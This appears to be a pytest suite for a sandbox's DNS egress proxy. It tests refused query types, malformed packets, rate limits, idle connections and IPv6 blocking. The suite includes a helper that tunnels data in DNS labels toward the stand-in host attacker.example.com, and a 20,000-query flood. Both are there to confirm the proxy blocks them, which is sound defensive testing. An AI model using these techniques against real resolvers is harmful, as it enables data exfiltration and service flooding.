# SPDX-License-Identifier: LGPL-2.1-or-later
"""The guest's questions about names: each kind of question, what does not leave the host, and how much of it there may be.

Beside each refusal the same question that is allowed. Who decides about names in general is tested in test_run_egress.py.
"""

import json
import socket
import struct
import time

import pytest

from egressrun import EgressRun
from waiting import wait_for

RUN, OTHER_RUN = "r0000dnsname1", "r0000dnsname2"
NOERROR, FORMERR, SERVFAIL, NOTIMP, REFUSED, BADVERS = 0, 1, 2, 4, 5, 16
A, NS, SOA, NULL, PTR, MX, TXT, AAAA, SRV, SVCB, HTTPS, AXFR, ANY = 1, 2, 6, 10, 12, 15, 16, 28, 33, 64, 65, 252, 255
GATEWAY = "10.255.255.1"


# ---- packets ----

def wire_name(labels):
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def query(name, qtype=A, qclass=1, ident=0x4242, flags=0x0100, tail=b"", counts=(1, 0, 0, 0)):
    labels = [label.encode() for label in name.split(".")] if isinstance(name, str) else name
    counts = (*counts[:3], counts[3] + (1 if tail else 0))
    return struct.pack(">6H", ident, flags, *counts) + wire_name(labels) + struct.pack(">2H", qtype, qclass) + tail


def opt(version=0, size=4096, flags=0, options=b""):
    return b"\0" + struct.pack(">HHBBHH", 41, size, 0, version, flags, len(options)) + options


class Answer:
    """A reply whose question is as long as the query's; its OPT record, if it has one, taken apart."""

    def __init__(self, data, question):
        ident, flags, self.n_questions, n_answers, _, n_more = struct.unpack(">6H", data[:12])
        assert ident == 0x4242 and flags & 0x8000 and not flags & 0x0200
        self.rcode, self.addresses, self.opt, self.why, self.code = flags & 15, [], None, None, None
        at = 12 + (len(question) if self.n_questions else 0)
        for _ in range(n_answers):
            kind, _, self.ttl, size = struct.unpack(">HHIH", data[at + 2:at + 12])
            assert kind == A, "no record but an address"
            self.addresses.append(socket.inet_ntoa(data[at + 12:at + 16]))
            at += 12 + size
        for _ in range(n_more):
            assert data[at] == 0
            kind, self.opt, rcode, version, flags, size = struct.unpack(">HHBBHH", data[at + 1:at + 11])
            assert kind == 41 and version == 0
            self.rcode |= rcode << 4
            self.dnssec_ok = bool(flags & 0x8000)
            if size:
                option, length, self.code = struct.unpack(">3H", data[at + 11:at + 17])
                assert option == 15 and length == size - 4
                self.why = data[at + 17:at + 11 + size].decode()
            at += 11 + size
        assert at == len(data)


def ask(data, server=GATEWAY, tcp=False, timeout=3):
    """The reply's bytes, b"" if the connection was closed, None if there was none."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as s:
        s.settimeout(timeout)
        try:
            s.connect((server, 53))
            if not tcp:
                s.send(data)
                return s.recv(4096)
            s.sendall(struct.pack(">H", len(data)) + data)
            return read_tcp(s)
        except TimeoutError:
            return None


def read_exactly(s, n):
    """So many bytes, or as many as there are until the end. (With a time limit a socket does not block, and MSG_WAITALL waits for nothing.)"""
    data = b""
    while len(data) < n and (more := s.recv(n - len(data))):
        data += more
    return data


def read_tcp(s):
    head = read_exactly(s, 2)
    return read_exactly(s, int.from_bytes(head, "big")) if len(head) == 2 else b""


def answer(run, name, *args, **kwargs):
    tcp, server = kwargs.pop("tcp", False), kwargs.pop("server", GATEWAY)
    data = query(name, *args, **kwargs)
    reply = run.call(ask, data, server, tcp)
    labels = [label.encode() for label in name.split(".")] if isinstance(name, str) else name
    return Answer(reply, wire_name(labels) + b"1234")


# ---- which questions ----

@pytest.mark.parametrize("server", [GATEWAY, "8.8.8.8", "1.1.1.1", "203.0.113.53", "169.254.169.253"])
@pytest.mark.parametrize("tcp", [False, True])
def test_any_resolver_over_udp_and_tcp(run, server, tcp):
    """connect() before send(): the answer is only taken if it comes from the address that was asked."""
    got = answer(run, "www.example.org", server=server, tcp=tcp, tail=opt())
    assert (got.rcode, len(got.addresses), got.opt) == (NOERROR, 1, 1232)
    assert got.addresses[0].startswith("198.18.") and got.addresses == [run.address_of("www.example.org")]
    assert answer(run, "paste.example.net", server=server, tcp=tcp).rcode == REFUSED


@pytest.mark.parametrize("qtype", [AAAA, HTTPS, SVCB])
def test_empty_for_an_allowed_name(run, qtype):
    got = answer(run, "www.example.org", qtype)
    assert (got.rcode, got.addresses) == (NOERROR, [])
    assert answer(run, "paste.example.net", qtype).rcode == REFUSED


@pytest.mark.parametrize("qtype, text", [(PTR, "PTR"), (TXT, "TXT"), (MX, "MX"), (ANY, "ANY"), (NS, "TYPE2"), (SOA, "TYPE6"), (NULL, "TYPE10"), (SRV, "TYPE33"),
                                         (AXFR, "TYPE252"), (5, "TYPE5"), (65280, "TYPE65280")])
def test_deny_other_types_even_of_an_allowed_name(run, qtype, text):
    got = answer(run, "git.example.org", qtype, tail=opt())
    assert (got.rcode, got.addresses) == (REFUSED, [])
    assert got.code == 15 and got.why.startswith("protocol (egress/test-names.json#/allow/")
    assert answer(run, "git.example.org").rcode == NOERROR
    assert wait_for(lambda: run.records("dns.refused", name="git.example.org", reason="protocol"))


def test_deny_reverse_lookup(run):
    assert answer(run, "1.0.18.198.in-addr.arpa", PTR).rcode == REFUSED
    assert answer(run, "254.169.254.169.in-addr.arpa", PTR).rcode == REFUSED
    assert wait_for(lambda: run.records("dns.refused", name="1.0.18.198.in-addr.arpa"))


def test_deny_other_classes(run, world):
    for qclass in (3, 4, 254, 255):
        assert answer(run, "www.example.org", A, qclass).rcode == REFUSED
    assert answer(run, "version.bind", TXT, 3).rcode == REFUSED
    assert wait_for(lambda: run.records("dns.refused", name="www.example.org", reason="protocol", detail="CLASS3"))
    assert answer(run, "www.example.org", A, 1).rcode == NOERROR
    assert not [q for q in world.log("dns") if "bind" in json.dumps(q)]


def test_reason_of_a_refusal_for_who_knows_edns(run):
    got = answer(run, "paste.example.net", tail=opt(flags=0x8000))
    assert (got.rcode, got.code, got.why, got.dnssec_ok) == (REFUSED, 15, "no-rule (default)", True)
    assert answer(run, "paste.example.net").opt is None
    got = answer(run, "www.example.org", tail=opt(size=512))
    assert (got.rcode, got.why, got.dnssec_ok) == (NOERROR, None, False)


def test_edns_versions_and_options(run):
    assert answer(run, "www.example.org", tail=opt(version=1)).rcode == BADVERS
    # options that nobody has to know: a cookie, padding, a client subnet
    options = b"".join(struct.pack(">HH", code, len(body)) + body for code, body in ((10, b"12345678"), (12, bytes(100)), (8, b"\0\1\x18\0\x0a\0\0")))
    assert answer(run, "www.example.org", tail=opt(options=options)).rcode == NOERROR
    two = run.call(ask, query("www.example.org", tail=opt() + opt(), counts=(1, 0, 0, 1)))
    assert two[3] & 15 == FORMERR


@pytest.mark.parametrize("tcp", [False, True])
def test_malformed_questions(run, tcp):
    """A format error, or nothing for what is no question; and the next question is answered."""
    good = query("www.example.org")
    for data, rcode in ((good[:-1], FORMERR), (good[:20], FORMERR), (good[:12], FORMERR), (query("www.example.org", counts=(2, 0, 0, 0)), FORMERR),
                        (query("www.example.org", counts=(0, 0, 0, 0)), FORMERR), (query("www.example.org", counts=(1, 1, 0, 0)), FORMERR),
                        (good[:12] + b"\xc0\x0c" + good[-4:], FORMERR), (good[:12] + b"\x40" + good[13:], FORMERR),
                        (query("www.example.org", flags=0x2900), NOTIMP), (query("www.example.org", flags=0x2100), NOTIMP)):
        reply = run.call(ask, data, GATEWAY, tcp)
        assert reply and reply[:2] == b"BB" and reply[3] & 15 == rcode, data
    for data in (good[:11], b"", query("www.example.org", flags=0x8180)):
        assert not run.call(ask, data, GATEWAY, tcp, 0.5), data
    assert answer(run, "www.example.org", tcp=tcp).rcode == NOERROR


# ---- what does not leave ----

def test_names_that_no_host_has_are_refused_and_logged(run, world):
    for labels, shown in (([b"\0\x01secret\xff", b"example", b"com"], "\\x00\\x01secret\\xff.example.com"), ([b"a.b", b"www", b"example", b"org"], "a\\x2eb.www.example.org"),
                          ([b"*", b"wild", b"example", b"org"], "\\x2a.wild.example.org"), ([b"a b", b"wild", b"example", b"org"], "a\\x20b.wild.example.org")):
        assert answer(run, labels).rcode == REFUSED
        wait_for(lambda s=shown: run.records("dns.refused", name=s, reason="no-rule"), explain=lambda: shown)
    assert answer(run, [b"a", b"wild", b"example", b"org"]).rcode == NOERROR
    assert not [q for q in world.log("dns") if "secret" in json.dumps(q) or "wild" in json.dumps(q)]


def exfiltrate(n, suffix):
    """Each question carries 60 bytes in two labels."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    rcodes = []
    for i in range(n):
        s.sendto(query(f"{i:04x}{'6d' * 28}.{'73' * 30}.{suffix}"), (GATEWAY, 53))
        rcodes.append(s.recv(4096)[3] & 15)
    return rcodes


def test_deny_exfiltration_in_labels(run, world):
    assert set(run.call(exfiltrate, 300, "attacker.example.com")) == {REFUSED}
    told = lambda: sum(r["count"] for r in run.records("dns.refused") if r["name"].endswith("attacker.example.com") or r["rule"] == "overflow")
    wait_for(lambda: told() == 300, 20, explain=told)
    assert not [q for q in world.log("dns") if "attacker" in json.dumps(q)]


def test_wildcard_admits_few_names(run):
    """Its budget is four, of which the test above may have used one."""
    rcodes = [answer(run, f"n{i}.wild.example.org").rcode for i in range(8)]
    assert rcodes[:3] == [NOERROR] * 3 and set(rcodes[4:]) == {REFUSED}
    assert answer(run, "n0.wild.example.org").rcode == NOERROR          # a name that was admitted stays
    for i, qtype in enumerate((AAAA, HTTPS, SVCB)):                                   # whichever type is asked
        assert answer(run, f"e{i}.wild.example.org", qtype).rcode == REFUSED and answer(run, "n0.wild.example.org", qtype).rcode == NOERROR
        assert wait_for(lambda: run.records("dns.refused", name=f"e{i}.wild.example.org", reason="name-budget"))
    assert answer(run, "wild.example.org").rcode == REFUSED
    got = answer(run, "n9.wild.example.org", tail=opt())
    assert got.why.startswith("name-budget (egress/test-names.json#/allow/")
    assert wait_for(lambda: run.records("dns.refused", name="n7.wild.example.org", reason="name-budget"))


# ---- how much ----

def pipelined(names):
    """All questions in one write on one connection; the rcodes of the answers, in order."""
    with socket.create_connection((GATEWAY, 53), timeout=5) as s:
        wire = [query(name) for name in names]
        s.sendall(b"".join(struct.pack(">H", len(w)) + w for w in wire))
        s.shutdown(socket.SHUT_WR)
        return [read_tcp(s)[3] & 15 for _ in names] + [s.recv(1)]


def test_pipelined_questions_are_answered_in_order(run):
    names = ["www.example.org", "paste.example.net"] * 20
    assert run.call(pipelined, names) == [NOERROR, REFUSED] * 20 + [b""]


def idle(n, seconds):
    """n connections that never ask; (how many were closed by the other side after so long, seconds that one more question took)."""
    sockets = [socket.create_connection((GATEWAY, 53), timeout=5) for _ in range(n)]
    for s in sockets[::2]:
        s.send(b"\0")                                          # half of a length
    begin = time.monotonic()
    with socket.create_connection((GATEWAY, 53), timeout=seconds) as s:
        s.sendall(struct.pack(">H", len(query("www.example.org"))) + query("www.example.org"))
        assert read_tcp(s)[3] & 15 == NOERROR
        took = time.monotonic() - begin
    closed = 0
    for s in sockets:
        s.settimeout(1)
        try:
            closed += s.recv(1) == b""
        except ConnectionResetError:
            closed += 1
        except TimeoutError:
            pass
    return closed, took


def test_idle_connections_are_bounded_and_closed(run):
    closed, took = run.call(idle, 32, 20, timeout=60)
    assert closed == 32 and 5 < took < 15, (closed, took)


def slow_but_alive(rounds, pause):
    with socket.create_connection((GATEWAY, 53), timeout=5) as s:
        for _ in range(rounds):
            s.sendall(struct.pack(">H", len(query("www.example.org"))) + query("www.example.org"))
            assert read_tcp(s)[3] & 15 == NOERROR
            time.sleep(pause)
        return "alive"


def test_a_connection_in_use_lives_on(run):
    assert run.call(slow_but_alive, 4, 4, timeout=40) == "alive"   # longer than an idle one may


def flood(n):
    """n questions without waiting; the rcodes that came back."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    s.setblocking(False)
    counts = {}

    def read(wait):
        s.settimeout(wait)
        try:
            while True:
                rcode = s.recv(4096)[3] & 15
                counts[rcode] = counts.get(rcode, 0) + 1
        except (TimeoutError, BlockingIOError):
            pass

    for i in range(n):
        s.setblocking(True)
        s.sendto(query(f"n{i % 50}.flood.example.com"), (GATEWAY, 53))
        if i % 100 == 0:
            read(0.002)                                        # so that the proxy can read, whose socket holds some 250
    read(1)
    return counts


def test_deny_flood_is_counted_not_asked(host, anchord, world):
    """Of another run: its own rate, its own log. Meanwhile the first run's name is answered."""
    it = EgressRun(host, anchord, OTHER_RUN, "exec-names")
    try:
        assert answer(it, "www.example.org").rcode == NOERROR  # the proxy runs: what comes before may be lost
        counts = it.call(flood, 20000, timeout=60)
        assert set(counts) <= {REFUSED, SERVFAIL} and counts[REFUSED] > 200       # a socket's buffer holds so many
        # each question that arrived stands in the log: those that were answered, and no more than were sent. What was aggregated is told after ten seconds
        total = lambda: sum(r["count"] for r in it.records("dns.refused"))
        wait_for(lambda: total() >= sum(counts.values()), 30, explain=lambda: (counts, total()))
        told = it.records("dns.refused")
        assert sum(r["count"] for r in told) <= 20000 and len(told) < 500
        assert sum(r["count"] for r in told if r["reason"] == "rate") > 0
        assert answer(it, "www.example.org").rcode == NOERROR
    finally:
        it.stop()
    assert not [q for q in world.log("dns") if "flood" in json.dumps(q)]


# ---- IPv6 ----

def ipv6(attempts):
    """How each ends, with an address of the gateway's own making and a route to it, as root would set them."""
    import subprocess
    for command in ("sysctl -qw net.ipv6.conf.eth0.disable_ipv6=0", "ip -6 address add fd00::2/64 dev eth0 nodad", "ip -6 route add default via fd00::1 dev eth0",
                    "ip -6 route add fd00::1 dev eth0"):
        subprocess.run(command.split(), check=False, capture_output=True)
    ends = []
    for kind, address, port in attempts:
        begin = time.monotonic()
        try:
            with socket.socket(socket.AF_INET6, socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM) as s:
                s.settimeout(0.5)
                s.connect((address, port, 0, socket.if_nametoindex("eth0") if address.startswith("fe80") else 0))
                if kind == "tcp":
                    ends.append((kind, address, "connected", time.monotonic() - begin))
                    continue
                s.send(query("www.example.org"))
                s.recv(512)
                ends.append((kind, address, "answered", time.monotonic() - begin))
        except OSError as error:
            ends.append((kind, address, type(error).__name__, time.monotonic() - begin))
    return ends


IPV6 = ["fd00::1", "fe80::1", "::ffff:203.0.113.12", "::ffff:169.254.169.254", "64:ff9b::203.0.113.12", "64:ff9b::a9fe:a9fe", "2002:cb00:710c::1", "2001:0:cb00:710c::1",
        "fd00:ec2::254", "2001:4860:4860::8888", "ff02::1"]


def test_deny_ipv6_even_with_an_address_and_a_route(run):
    for kind, port in (("tcp", 443), ("udp", 53)):
        for _, address, end, _ in run.call(ipv6, [(kind, a, port) for a in IPV6], timeout=60):
            if kind == "udp" and address.startswith("::ffff:"):
                assert end == "answered"      # is IPv4, and there any resolver is ours
            else:
                assert end not in ("connected", "answered"), (kind, address, end)
    assert run.call(ipv6, [("tcp", "::ffff:" + run.address_of("www.example.org"), 443)])[0][2] == "connected"


def solicit():
    """Sends router and neighbour solicitations, listens for two seconds to everything that goes by on eth0; the ICMPv6 types of others, and our own."""
    import subprocess
    subprocess.run("sysctl -qw net.ipv6.conf.eth0.disable_ipv6=0".split(), check=False, capture_output=True)
    time.sleep(1)
    heard = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))        # every protocol: else what goes out is not shown
    heard.bind(("eth0", 3))
    heard.settimeout(0.1)
    index = socket.if_nametoindex("eth0")
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as s:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
        for target, body in (("ff02::2", struct.pack(">BBHI", 133, 0, 0, 0)),
                             ("ff02::1:ff00:1", struct.pack(">BBHI", 135, 0, 0, 0) + socket.inet_pton(socket.AF_INET6, "fe80::1")),
                             ("ff02::1", struct.pack(">BBHHH", 128, 0, 0, 1, 1))):
            s.sendto(body, (target, 0, 0, index))
    types, own, end = set(), set(), time.monotonic() + 2
    while time.monotonic() < end:
        try:
            packet, (_, protocol, kind, *_) = heard.recvfrom(2048)
            if protocol == 0x86dd and packet[6] == 58:
                (own if kind == socket.PACKET_OUTGOING else types).add(packet[40])
        except TimeoutError:
            pass
    return types, own


def test_deny_routers_and_neighbours(run):
    """No router is advertised, no neighbour answers, not even to all nodes."""
    others, own = run.call(solicit)
    assert own >= {133, 135, 128}         # they went out, and whoever listens would have heard an answer
    assert others == set()


def test_ipv6_is_off_in_the_namespace(host, run):
    def inside(command):
        return host.run(["ip", "netns", "exec", f"anchor-{RUN}", "sh", "-c", command]).stdout

    assert inside("ip -6 address show; ip -6 route show") == ""
    assert inside("cat /proc/sys/net/ipv6/conf/{all,default,tap0,lo}/disable_ipv6 2>/dev/null || cat /proc/sys/net/ipv6/conf/tap0/disable_ipv6").split()[-1] == "1"
    assert "10.255.255.1/30" in inside("ip -4 address show dev tap0")
